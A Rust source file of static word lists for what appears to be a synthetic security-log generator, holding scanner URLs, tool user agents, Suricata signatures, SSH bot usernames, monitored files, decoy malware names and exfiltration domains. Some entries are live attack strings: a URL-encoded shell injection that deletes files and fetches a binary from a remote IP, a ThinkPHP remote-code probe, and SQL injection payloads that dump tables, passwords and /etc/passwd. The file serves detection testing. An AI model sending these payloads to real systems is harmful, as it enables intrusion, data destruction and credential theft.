//! Static vocabularies the sources draw from: scanned URLs, user agents,
//! Suricata signatures, SSH usernames tried by bots, packages, monitored
//! files, service names. All of them are what such logs really contain.

use super::sources::Sig;

/// URLs that internet scanners and bots request (answered 4xx).
pub(crate) const SCAN_PATHS: &[&str] = &[
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/admin/",
    "/xmlrpc.php",
    "/cgi-bin/luci/;stok=/locale",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env",
    "/server-status",
    "/owa/auth/logon.aspx",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/solr/admin/info/system?wt=json",
    "/console/",
    "/manager/html",
    "/.aws/credentials",
    "/config.json",
    "/backup.zip",
    "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/api/v1/pods",
    "/remote/login?lang=en",
    "/geoserver/web/",
    "/ReportServer",
    "/.DS_Store",
    "/sitemap.xml.gz",
    "/admin/config.php",
    "/webui/",
    "/_ignition/execute-solution",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://45.95.147.10/bins/x86",
    "/jenkins/login",
    "/portal/redlion",
    "/favicon.ico",
    "/robots.txt",
    "/ads.txt",
    "/apple-touch-icon-precomposed.png",
];

/// Words a content-discovery tool (gobuster, dirb, ffuf) tries.
pub(crate) const DIRB_WORDS: &[&str] = &[
    "admin",
    "backup",
    "old",
    "test",
    "dev",
    "api",
    "uploads",
    "images",
    "includes",
    "tmp",
    "config",
    "db",
    "sql",
    "install",
    "setup",
    "login",
    "logs",
    "private",
    "secret",
    "cgi-bin",
    "server-info",
    "staging",
    "wp-admin",
    "phpinfo",
    "info",
    "shell",
    "cmd",
    "console",
    "debug",
    "dump",
    "export",
    "files",
    "data",
    "archive",
    "download",
    "user",
    "users",
    "panel",
    "cpanel",
];

pub(crate) const DIRB_EXT: &[&str] = &["", ".php", ".bak", ".zip", ".txt", ".old", ".sql", "/"];

pub(crate) const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
    "Mozilla/5.0 (Linux; Android 6.0; HTC One M9 Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.98 Mobile Safari/537.3",
    "Hello World",
    "libwww-perl/6.72",
];

pub(crate) const DIRB_UAS: &[&str] = &[
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Wfuzz/3.1.0",
];

/// SQL injection payloads (URL-encoded) that Wazuh's web rules match.
pub(crate) const SQLI_URLS: &[&str] = &[
    "/products.php?id=1%27%20union%20select%201,2,concat(user(),0x3a,version())--%20-",
    "/products.php?id=1%20AND%201=1%20UNION%20ALL%20SELECT%20NULL,NULL,table_name%20FROM%20information_schema.tables--",
    "/login.php?user=admin%27%20or%20%271%27=%271&pass=x",
    "/search.php?q=%27%20union%20select%20username,password%20from%20users--",
    "/item.php?cat=2%20union%20select%20load_file(%27/etc/passwd%27)",
    "/index.php?page=news&id=-1%20UNION%20SELECT%201,group_concat(table_name),3%20from%20information_schema.tables%20where%20table_schema=database()--",
    "/api/orders?sort=id;select%20pg_sleep(5)--",
];

/// SSH usernames that bots try.
pub(crate) const BOT_USERS: &[&str] = &[
    "admin",
    "test",
    "user",
    "ubuntu",
    "oracle",
    "postgres",
    "git",
    "ftpuser",
    "pi",
    "support",
    "guest",
    "hadoop",
    "minecraft",
    "steam",
    "tomcat",
    "www",
    "dev",
    "ansible",
    "elastic",
    "mysql",
    "nagios",
    "sammy",
    "ubnt",
    "vagrant",
    "docker",
    "jenkins",
    "odoo",
    "es",
    "hduser",
    "teamspeak",
    "user1",
    "test1",
    "centos",
    "debian",
    "kafka",
    "solana",
    "sol",
    "ethereum",
];

/// Suricata noise: (signature, inbound?).
pub(crate) const IDS_NOISE: &[(Sig, Dir)] = &[
    (sig(2001219, 20, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2), Dir::Inbound),
    (sig(2002910, 6, "ET SCAN Potential VNC Scan 5800-5820", "Attempted Information Leak", 2), Dir::Inbound),
    (sig(2010935, 3, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2), Dir::Inbound),
    (sig(2010937, 3, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 2), Dir::Inbound),
    (sig(2010939, 3, "ET SCAN Suspicious inbound to PostgreSQL port 5432", "Potentially Bad Traffic", 2), Dir::Inbound),
    (sig(2024364, 4, "ET SCAN Possible Nmap User-Agent Observed", "Web Application Attack", 1), Dir::Inbound),
    (sig(2009582, 3, "ET SCAN NMAP -sS window 1024", "Attempted Information Leak", 2), Dir::Inbound),
    (sig(2402000, 7021, "ET DROP Dshield Block Listed Source", "Misc Attack", 2), Dir::Inbound),
    (sig(2400007, 3914, "ET DROP Spamhaus DROP Listed Traffic Inbound group 8", "Misc Attack", 2), Dir::Inbound),
    (
        sig(2403342, 87021, "ET CINS Active Threat Intelligence Poor Reputation IP group 43", "Misc Attack", 2),
        Dir::Inbound,
    ),
    (
        sig(2522118, 5012, "ET TOR Known Tor Relay/Router (Not Exit) Node Traffic group 119", "Misc Attack", 2),
        Dir::Inbound,
    ),
    (sig(2100366, 8, "GPL ICMP_INFO PING *NIX", "Misc activity", 3), Dir::Inbound),
    (sig(2013028, 7, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2), Dir::Outbound),
    (
        sig(2027390, 4, "ET USER_AGENTS Microsoft Device Metadata Retrieval Client User-Agent", "Unknown Traffic", 3),
        Dir::Outbound,
    ),
    (sig(2027865, 4, "ET INFO Observed DNS Query to .cloud TLD", "Potentially Bad Traffic", 2), Dir::Outbound),
    (sig(2025275, 3, "ET INFO Windows OS Submitting USB Metadata to Microsoft", "Misc activity", 3), Dir::Outbound),
    (
        sig(
            2018959,
            4,
            "ET POLICY PE EXE or DLL Windows file download HTTP",
            "Potential Corporate Privacy Violation",
            1,
        ),
        Dir::Outbound,
    ),
    (
        sig(
            2016149,
            2,
            "ET INFO Session Traversal Utilities for NAT (STUN Binding Request)",
            "Attempted User Privilege Gain",
            2,
        ),
        Dir::Outbound,
    ),
    (
        sig(2033966, 2, "ET INFO Observed Discord Domain in DNS Lookup (discord .com)", "Misc activity", 3),
        Dir::Outbound,
    ),
    (
        sig(
            2014702,
            3,
            "ET DNS Non-DNS or Non-Compliant DNS traffic on DNS port Opcode 6 or 7 set",
            "Potentially Bad Traffic",
            2,
        ),
        Dir::Internal,
    ),
    (sig(2210054, 1, "SURICATA STREAM excessive retransmissions", "Generic Protocol Command Decode", 3), Dir::Internal),
    (
        sig(2221010, 1, "SURICATA HTTP unable to match response to request", "Generic Protocol Command Decode", 3),
        Dir::Internal,
    ),
    (
        sig(2260002, 1, "SURICATA Applayer Detect protocol only one direction", "Generic Protocol Command Decode", 3),
        Dir::Internal,
    ),
    (
        sig(2001569, 15, "ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection", "Misc activity", 3),
        Dir::Internal,
    ),
];

/// Suricata alerts raised by data leaving the network.
pub(crate) const IDS_EXFIL: &[Sig] = &[
    sig(2034155, 2, "ET INFO File Sharing Related Domain in DNS Lookup (transfer .sh)", "Potentially Bad Traffic", 2),
    sig(2036232, 1, "ET INFO Observed File Sharing Service Domain (mega .nz in TLS SNI)", "Misc activity", 3),
    sig(2013028, 7, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 2),
    sig(
        2027397,
        3,
        "ET POLICY Large HTTP POST to External Host - Possible Data Exfiltration",
        "Potential Corporate Privacy Violation",
        1,
    ),
];

/// Direction of a Suricata noise flow.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Dir {
    Inbound,
    Outbound,
    Internal,
}

const fn sig(sid: u32, rev: u32, msg: &'static str, category: &'static str, severity: u8) -> Sig {
    Sig { sid, rev, msg, category, severity }
}

/// Packages that unattended upgrades install, with the binaries they replace.
pub(crate) const PACKAGES: &[(&str, &str, &[&str])] = &[
    ("openssl", "3.0.13-0ubuntu3.5", &["/usr/bin/openssl"]),
    ("libssl3", "3.0.13-0ubuntu3.5", &[]),
    ("curl", "8.5.0-2ubuntu10.6", &["/usr/bin/curl"]),
    ("sudo", "1.9.15p5-3ubuntu5.24.04.1", &["/usr/bin/sudo", "/usr/bin/sudoreplay"]),
    ("openssh-server", "1:9.6p1-3ubuntu13.8", &["/usr/sbin/sshd"]),
    ("openssh-client", "1:9.6p1-3ubuntu13.8", &["/usr/bin/ssh", "/usr/bin/scp", "/usr/bin/ssh-keygen"]),
    ("tzdata", "2025b-0ubuntu0.24.04.1", &[]),
    ("python3.12", "3.12.3-1ubuntu0.7", &["/usr/bin/python3.12"]),
    ("bash", "5.2.21-2ubuntu4.1", &["/usr/bin/bash"]),
    ("systemd", "255.4-1ubuntu8.8", &["/usr/bin/systemctl", "/usr/bin/journalctl"]),
    ("vim", "2:9.1.0016-1ubuntu7.8", &["/usr/bin/vim.basic"]),
    ("git", "1:2.43.0-1ubuntu7.3", &["/usr/bin/git"]),
    ("libc6", "2.39-0ubuntu8.5", &["/usr/bin/ldd", "/usr/sbin/ldconfig"]),
    ("wget", "1.21.4-1ubuntu4.1", &["/usr/bin/wget"]),
    ("tar", "1.35+dfsg-3build1", &["/usr/bin/tar"]),
    ("rsync", "3.2.7-1ubuntu1.2", &["/usr/bin/rsync"]),
    ("linux-image-6.8.0-71-generic", "6.8.0-71.71", &[]),
    ("containerd.io", "1.7.27-1", &["/usr/bin/containerd", "/usr/bin/ctr"]),
];

/// Linux service units that crash-loop in the background.
pub(crate) const FLAKY_UNITS: &[&str] = &[
    "node_exporter",
    "filebeat",
    "php8.3-fpm",
    "docker-cleanup",
    "certbot-renew",
    "pm2-deploy",
    "snapd",
    "nginx-exporter",
    "td-agent-bit",
    "amazon-ssm-agent",
];

/// Lines that match Wazuh's "bad words" (rule 1002): (program, message).
pub(crate) const BAD_WORD_LINES: &[(&str, &str)] = &[
    ("CRON", "(CRON) error (grandchild #4177 failed with exit status 1)"),
    (
        "rsyslogd",
        "omfwd: could not get addrinfo for hostname 'siem-collector.internal':'514': Name or service not known [v8.2312.0 try https://www.rsyslog.com/e/2007 ]",
    ),
    (
        "dockerd",
        "level=error msg=\"Handler for GET /v1.45/containers/7f3c2a/json returned error: No such container: 7f3c2a\"",
    ),
    (
        "containerd",
        "level=error msg=\"failed to delete\" cmd=\"/usr/bin/containerd-shim-runc-v2 -namespace moby -address /run/containerd/containerd.sock\" error=\"exit status 1\"",
    ),
    ("smartd", "Device: /dev/sdb [SAT], failed to read SMART Attribute Data"),
    (
        "kernel",
        "EXT4-fs error (device sdb1): ext4_find_entry:1455: inode #131073: comm rsync: reading directory lblock 0",
    ),
    ("multipathd", "sda: failed to get udev uid: Invalid argument"),
    ("systemd-resolved", "Failed to send hostname reply: Transport endpoint is not connected"),
];

/// Files under scheduled FIM on every Linux host: (path, weight).
pub(crate) const FIM_COMMON: &[(&str, u32)] = &[
    ("/etc/resolv.conf", 30),
    ("/etc/hosts", 8),
    ("/etc/ld.so.cache", 12),
    ("/etc/ssh/sshd_config", 2),
    ("/etc/group", 2),
    ("/etc/sudoers.d/90-cloud-init-users", 1),
    ("/etc/logrotate.d/rsyslog", 2),
    ("/etc/apt/sources.list.d/ubuntu.sources", 2),
];

/// Extra monitored configuration by host kind (substring of the host name).
pub(crate) const FIM_BY_KIND: &[(&str, &str, u32)] = &[
    ("-web-", "/etc/nginx/nginx.conf", 6),
    ("-web-", "/etc/nginx/sites-enabled/default", 10),
    ("-app-", "/opt/app/config/application.yml", 25),
    ("-app-", "/etc/systemd/system/app.service", 4),
    ("-db-", "/etc/postgresql/16/main/postgresql.conf", 8),
    ("-db-", "/etc/postgresql/16/main/pg_hba.conf", 5),
    ("-k8s-node-", "/etc/kubernetes/kubelet.conf", 10),
    ("-k8s-node-", "/etc/containerd/config.toml", 5),
    ("-ci-", "/etc/default/jenkins", 6),
    ("-mon-", "/etc/prometheus/prometheus.yml", 25),
    ("-mon-", "/etc/prometheus/rules/alerts.yml", 15),
    ("-mq-", "/etc/rabbitmq/rabbitmq.conf", 6),
    ("-cache-", "/etc/redis/redis.conf", 6),
    ("-bastion-", "/etc/ssh/sshd_config.d/50-cloud-init.conf", 4),
    ("-ids-", "/etc/suricata/suricata.yaml", 4),
    ("-ids-", "/var/lib/suricata/rules/suricata.rules", 30),
];

/// Benign commands admins and configuration management run with sudo.
pub(crate) const ADMIN_SUDO: &[&str] = &[
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/systemctl status app.service",
    "/usr/bin/journalctl -u app.service --since today",
    "/usr/bin/apt-get update",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/bin/docker ps -a",
    "/usr/bin/less /var/log/auth.log",
    "/usr/sbin/ss -tulpn",
    "/usr/bin/vim /etc/hosts",
    "/usr/bin/du -sh /var/lib/docker",
];

/// Scheduled tasks that updaters create all the time.
pub(crate) const BENIGN_TASKS: &[(&str, &str, &str)] = &[
    (
        "\\GoogleUpdateTaskMachineUA{5E2F6B1C-1C5A-4B5E-9C1D-2B6F3A4E5D6C}",
        "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
        "/ua /installsource scheduler",
    ),
    (
        "\\OneDrive Standalone Update Task-S-1-5-21-3421124121-1123456789-2234567890-1107",
        "%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe",
        "",
    ),
    ("\\Adobe Acrobat Update Task", "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe", ""),
    (
        "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan Static Task",
        "%systemroot%\\system32\\usocoreworker.exe",
        "",
    ),
    (
        "\\MicrosoftEdgeUpdateTaskMachineCore",
        "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
        "/c",
    ),
];

/// Plausible names for malware droppers.
pub(crate) const MALWARE_NAMES: &[&str] = &[
    "svchost32.exe",
    "update.exe",
    "msupdate.exe",
    "chrome_installer.exe",
    "invoice_2026.exe",
    "WinSecurity.exe",
    "setup_x64.exe",
    "dllhost64.exe",
    "AdobeUpdate.exe",
    "RuntimeBroker32.exe",
];

/// Cloud storage / paste endpoints data is exfiltrated to.
pub(crate) const EXFIL_DOMAINS: &[&str] =
    &["transfer.sh", "mega.nz", "anonfiles.la", "file.io", "gofile.io", "temp.sh"];
